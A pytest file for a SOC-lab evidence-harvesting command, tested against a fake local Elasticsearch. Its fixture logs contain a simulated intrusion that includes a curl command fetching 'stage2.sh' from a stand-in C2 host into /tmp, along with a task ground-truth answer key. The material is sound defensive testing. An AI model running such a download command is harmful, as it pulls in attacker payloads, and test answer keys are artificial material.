"""`soclab harvest` against a recording fake Elasticsearch on 127.0.0.1: read-only, and right."""

from __future__ import annotations

import fnmatch
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import unquote, urlsplit

import pytest

from pytest_soclab.cli import main
from pytest_soclab.cli.harvest_cmd import contains, escape_query_string, index_expression

ATTACKER = "185.220.101.47"
DOCS: list[tuple[str, str, dict[str, Any]]] = [
    (
        ".ds-logs-system.auth-default-2024.05.01-000001",
        "a1",
        {
            "@timestamp": "2024-05-01T09:58:00.000Z",
            "host": {"name": "web-01"},
            "message": f"Accepted publickey for alice from {ATTACKER} port 51234 ssh2",
            "user": {"name": "alice"},
        },
    ),
    (
        ".ds-logs-system.auth-default-2024.05.01-000001",
        "a2",
        {
            "@timestamp": "2024-05-01T09:59:00.000Z",
            "host": {"name": "web-01"},
            "message": "Accepted password for bob from 10.0.0.7 port 2222 ssh2",
            "user": {"name": "bob"},
        },
    ),
    (
        ".ds-logs-endpoint.events.process-default-2024.05.01-000001",
        "p1",
        {
            "@timestamp": "2024-05-01T10:00:01.000Z",
            "host": {"name": "web-01"},
            "process": {
                "command_line": "curl -s http://update-check.evil-c2.xyz/stage2.sh -o /tmp/.x",
                "args": ["curl", "-s", "http://update-check.evil-c2.xyz/stage2.sh"],
            },
        },
    ),
    (
        ".ds-logs-endpoint.events.process-prod-2024.05.01-000001",
        "p2",
        {
            "@timestamp": "2024-05-03T10:00:01.000Z",
            "host": {"name": "web-01"},
            "process": {"command_line": "curl -s http://update-check.evil-c2.xyz/stage2.sh"},
        },
    ),
    (
        ".ds-logs-zeek.dns-default-2024.05.01-000001",
        "z1",
        {"@timestamp": "2024-05-01T10:00:00.900Z", "dns": {"question": {"name": "update-check.evil-c2.xyz"}}},
    ),
]


def _data_stream(backing: str) -> str:
    # .ds-logs-x-default-2024.05.01-000001 -> logs-x-default
    return backing[4:].rsplit("-", 2)[0] if backing.startswith(".ds-") else backing


class FakeElasticsearch(BaseHTTPRequestHandler):
    """Answers _search from DOCS; records every request. Anything else is a 405 (and recorded)."""

    disable_nagle_algorithm = True
    requests: ClassVar[list[dict[str, Any]]] = []
    status_override: int | None = None
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: Any) -> None:
        pass

    def _record(self) -> tuple[str, dict[str, Any]]:
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length else b""
        body = json.loads(raw) if raw else {}
        url = urlsplit(self.path)
        self.requests.append(
            {
                "method": self.command,
                "path": url.path,
                "query": url.query,
                "headers": {k.lower(): v for k, v in self.headers.items()},
                "body": body,
            }
        )
        return url.path, body

    def _send(self, status: int, payload: dict[str, Any]) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        if status < 300:
            self.send_header("X-Elastic-Product", "Elasticsearch")
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        self._handle()

    def do_POST(self) -> None:
        self._handle()

    def do_PUT(self) -> None:
        self._handle()

    def do_DELETE(self) -> None:
        self._handle()

    def _handle(self) -> None:
        path, body = self._record()
        if self.status_override is not None:
            self._send(
                self.status_override,
                {
                    "error": {
                        "type": "security_exception",
                        "reason": "missing credentials",
                        "root_cause": [],
                    },
                    "status": self.status_override,
                },
            )
            return
        if not path.endswith("/_search") or self.command not in ("GET", "POST"):
            self._send(405, {"error": {"type": "illegal_argument", "reason": "not a read"}, "status": 405})
            return
        patterns = unquote(path.split("/")[1]).split(",")
        phrase = body["query"]["bool"]["should"][0]["multi_match"]["query"].lower()
        words = phrase.split()
        hits = []
        for index, _id, src in DOCS:
            if not any(fnmatch.fnmatchcase(_data_stream(index), p) for p in patterns):
                continue
            blob = json.dumps(src).lower()
            # Sloppy on purpose, like analysis: any word matches. The client must check.
            if any(w in blob for w in words):
                hits.append(
                    {"_index": index, "_id": _id, "_score": None, "_source": src, "sort": [src["@timestamp"]]}
                )
        rng = (body["query"]["bool"].get("filter") or [{}])[0].get("range", {}).get("@timestamp")
        if rng:
            hits = [h for h in hits if rng["gte"][:19] <= h["_source"]["@timestamp"][:19] <= rng["lte"][:19]]
        hits = hits[: body.get("size", 10)]
        self._send(
            200,
            {
                "took": 1,
                "timed_out": False,
                "_shards": {"total": 1, "successful": 1, "failed": 0},
                "hits": {"total": {"value": len(hits), "relation": "eq"}, "max_score": None, "hits": hits},
            },
        )


@pytest.fixture
def es() -> Iterator[tuple[str, type[FakeElasticsearch]]]:
    handler = type("Recorder", (FakeElasticsearch,), {"requests": [], "status_override": None})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler
    finally:
        server.shutdown()
        server.server_close()


def _task(tmp_path: Path, key_evidence: list[dict[str, str]] | None = None) -> Path:
    t = {
        "id": "task-01",
        "title": "Curl on web-01",
        "source_case": "case-01-recon",
        "difficulty": "easy",
        "trigger": {
            "type": "alert",
            "prompt": "Investigate web-01.",
            "pivot": {"host.name": "web-01", "time_utc": "2024-05-01T10:00:05Z"},
        },
        "ground_truth": {
            "root_cause": "stolen key",
            "key_evidence": key_evidence
            or [
                {"source": "logs-system.auth", "must_find": f"Accepted publickey for alice from {ATTACKER}"},
                {
                    "source": "logs-endpoint.events.process",
                    "must_find": "curl -s http://update-check.evil-c2.xyz/stage2.sh",
                },
                {"source": "logs-zeek.dns", "must_find": "update-check.evil-c2.xyz"},
            ],
        },
        "scoring": {
            "checkpoints": [
                {"dim": "evidence_recall", "points": 35, "check": "a"},
                {"dim": "correlation", "points": 25, "check": "b"},
                {"dim": "conclusion_accuracy", "points": 25, "check": "c"},
                {"dim": "response_restraint", "points": 15, "check": "d"},
            ]
        },
    }
    path = tmp_path / "task-01.json"
    path.write_text(json.dumps(t), encoding="utf-8")
    return path


def test_harvest_writes_the_documents_that_hold_the_key_evidence(
    tmp_path: Path, es: tuple[str, type[FakeElasticsearch]], capsys: pytest.CaptureFixture[str]
) -> None:
    url, rec = es
    code = main(
        [
            "harvest",
            str(_task(tmp_path)),
            "--es-url",
            url,
            "--api-key",
            "c2VjcmV0OmtleQ==",
            "--corpus-dir",
            str(tmp_path / "corpus"),
        ]
    )
    assert code == 0, capsys.readouterr()
    out = json.loads((tmp_path / "corpus" / "case-01-recon" / "evidence.json").read_text())
    assert out["task"] == "task-01" and out["case"] == "case-01-recon" and out["format"] == 1
    by_source = {e["source"]: e for e in out["evidence"]}
    auth = by_source["logs-system.auth"]
    # a2 matched the sloppy server-side query ("accepted", "for", "from") but does not hold must_find.
    assert [d["_id"] for d in auth["documents"]] == ["a1"] and auth["candidates"] == 2
    assert auth["documents"][0]["_source"] == DOCS[0][2]
    assert auth["documents"][0]["_index"] == DOCS[0][0]
    assert [d["_id"] for d in by_source["logs-endpoint.events.process"]["documents"]] == ["p1", "p2"]
    assert [d["_id"] for d in by_source["logs-zeek.dns"]["documents"]] == ["z1"]
    # Read-only: searches and nothing else, authenticated with the API key.
    assert rec.requests and all(
        r["method"] in ("GET", "POST") and r["path"].endswith("/_search") for r in rec.requests
    )
    assert all(r["headers"].get("authorization") == "ApiKey c2VjcmV0OmtleQ==" for r in rec.requests)
    assert unquote(rec.requests[0]["path"]) == "/logs-system.auth,logs-system.auth-*/_search"
    assert "pseudonymize it before sharing" in capsys.readouterr().out


def test_window_and_fields_narrow_the_search(tmp_path: Path, es: tuple[str, type[FakeElasticsearch]]) -> None:
    url, rec = es
    out = tmp_path / "ev.json"
    code = main(
        [
            "harvest",
            str(_task(tmp_path)),
            "--es-url",
            url,
            "--out",
            str(out),
            "--window",
            "6h",
            "--field",
            "process.command_line",
            "--field",
            "message",
            "--max-docs",
            "1",
        ]
    )
    assert code == 0
    body = rec.requests[1]["body"]
    assert body["query"]["bool"]["filter"] == [
        {"range": {"@timestamp": {"gte": "2024-05-01T04:00:05+00:00", "lte": "2024-05-01T16:00:05+00:00"}}}
    ]
    assert body["query"]["bool"]["should"][0]["multi_match"]["fields"] == ["process.command_line", "message"]
    proc = json.loads(out.read_text())["evidence"][1]
    assert [d["_id"] for d in proc["documents"]] == ["p1"]  # p2 is two days later


def test_missing_evidence_is_reported_with_a_failing_exit_code(
    tmp_path: Path, es: tuple[str, type[FakeElasticsearch]], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = es
    task = _task(tmp_path, [{"source": "logs-system.auth", "must_find": "Accepted publickey for mallory"}])
    assert main(["harvest", str(task), "--es-url", url, "--out", str(tmp_path / "e.json")]) == 1
    assert (
        "no document in logs-system.auth,logs-system.auth-* contains 'Accepted publickey for mallory'"
        in capsys.readouterr().out
    )
    assert json.loads((tmp_path / "e.json").read_text())["evidence"][0]["documents"] == []


def test_cluster_errors_keep_elasticsearchs_shape(
    tmp_path: Path, es: tuple[str, type[FakeElasticsearch]], capsys: pytest.CaptureFixture[str]
) -> None:
    url, rec = es
    rec.status_override = 401
    assert main(["harvest", str(_task(tmp_path)), "--es-url", url, "--out", str(tmp_path / "e.json")]) == 1
    err = capsys.readouterr().err
    assert "[security_exception] missing credentials" in err and "Traceback" not in err
    assert not (tmp_path / "e.json").exists()


def test_unreachable_cluster_and_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()  # nothing listens there
    assert (
        main(["harvest", str(_task(tmp_path)), "--es-url", f"http://127.0.0.1:{port}", "--timeout", "2"]) == 2
    )
    assert "cannot reach Elasticsearch" in capsys.readouterr().err
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"id": "task-02", "title": "x"}))
    assert main(["harvest", str(bad), "--es-url", "http://127.0.0.1:9"]) == 2
    err = capsys.readouterr().err
    assert f"{bad}: source_case: Field required" in err
    assert main(["harvest", str(_task(tmp_path)), "--es-url", "http://127.0.0.1:9", "--window", "soon"]) == 2
    assert "--window 'soon'" in capsys.readouterr().err


def test_helpers() -> None:
    assert index_expression("logs-zeek.dns") == "logs-zeek.dns,logs-zeek.dns-*"
    assert index_expression("logs-*") == "logs-*"
    assert escape_query_string('a b:c/d"e*') == 'a\\ b\\:c\\/d\\"e\\*'
    assert contains({"a": {"b": ["x", "Curl -S http://X"]}}, "curl -s http://x")
    assert not contains({"a": 1, "b": None}, "1 ")
